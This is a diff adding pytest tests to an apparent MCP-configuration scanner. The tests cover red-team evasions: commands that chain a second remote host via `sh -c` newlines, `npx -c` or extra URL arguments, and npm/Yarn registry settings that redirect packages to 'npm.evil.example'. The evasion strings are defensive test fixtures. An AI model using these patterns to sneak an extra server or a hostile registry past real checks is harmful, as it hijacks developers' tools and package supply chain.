@@ -2328,3 +2328,54 @@ def test_a_line_connecting_to_two_hosts_is_approved_by_neither_hosts_rule(machin
     found = {f.item.name: f for f in scan(m.machine(), pack).surface.servers}
     assert found["two"].verdict == "prohibited" and "more than one host" in found["two"].reason
     assert found["same"].verdict == "approved"
+
+
+@pytest.mark.parametrize(
+    "server",
+    [
+        # a line break ends a command as `;` does: the second line runs too
+        {"command": "sh", "args": ["-c", "npx -y mcp-remote {gw}\nnpx -y mcp-remote {evil}"]},
+        {"command": "sh", "args": ["-c", "npx -y mcp-remote {gw} &&\nnpx -y mcp-remote {evil}"]},
+        # npx -c runs a line of its own
+        {"command": "npx", "args": ["-y", "-p", "mcp-remote", "-c", "node x.js {gw} && node y.js {evil}"]},
+        # one program given two URLs
+        {"command": "node", "args": ["proxy.js", "{gw}", "{evil}"]},
+        {"command": "uvx", "args": ["mcp-proxy", "{gw}", "{evil}"]},
+    ],
+)
+def test_every_way_a_line_names_two_hosts_is_two_hosts(machine_factory, pack, server):
+    """Red team, third round: the two-hosts rule missed a line break in `sh -c`, `npx -c`, and a program given
+    two URLs; each was approved by the gateway's rule while it also connected elsewhere."""
+    m = machine_factory("linux")
+    urls = {"gw": "https://mcp.gateway.example.com/sse", "evil": "https://evil.example.com/sse"}
+    filled = {k: [a.format(**urls) for a in v] if isinstance(v, list) else v for k, v in server.items()}
+    m.write_json(m.h(".cursor/mcp.json"), {"mcpServers": {"s": filled}})
+    [found] = scan(m.machine(), pack).surface.servers
+    assert found.verdict == "prohibited" and "more than one host" in found.reason, found.reason
+
+
+@pytest.mark.parametrize(
+    "where, text",
+    [
+        # the user's own scoped registry is not undone by a global config read later
+        ("scoped", "@modelcontextprotocol:registry=https://registry.npmjs.org/\n"),
+        (".npmrc", '"registry" = "https://npm.evil.example/"\n'),
+        (".yarnrc", '"@modelcontextprotocol:registry" "https://npm.evil.example/"\n'),
+        (".yarnrc.yml", '"npmRegistryServer": "https://npm.evil.example"\n'),
+        (".yarnrc.yml", "npmScopes: {modelcontextprotocol: {npmRegistryServer: https://npm.evil.example}}\n"),
+    ],
+)
+def test_registry_settings_in_every_spelling_keep_an_approved_name_unreviewed(machine_factory, pack, where, text):
+    """Red team, third round: a global npmrc's scoped registry replaced the user's own (approved again), and
+    quoted keys, Yarn 1's scoped lines and YAML flow mappings were not read."""
+    m = machine_factory("linux")
+    if where == "scoped":
+        m.write(m.h(".npmrc"), "@modelcontextprotocol:registry=https://npm.evil.example/\n")
+        m.npm("@github/copilot", "1.0.3", manager="nvm")
+        m.write(m.npm_root("nvm").removesuffix("/lib/node_modules") + "/etc/npmrc", text)
+    else:
+        m.write(m.h(where), text)
+    github = "@modelcontextprotocol/server-github"
+    m.write_json(m.h(".cursor/mcp.json"), {"mcpServers": {"gh": {"command": "npx", "args": ["-y", github]}}})
+    [found] = scan(m.machine(), pack).surface.servers
+    assert found.verdict == "unreviewed", found.reason
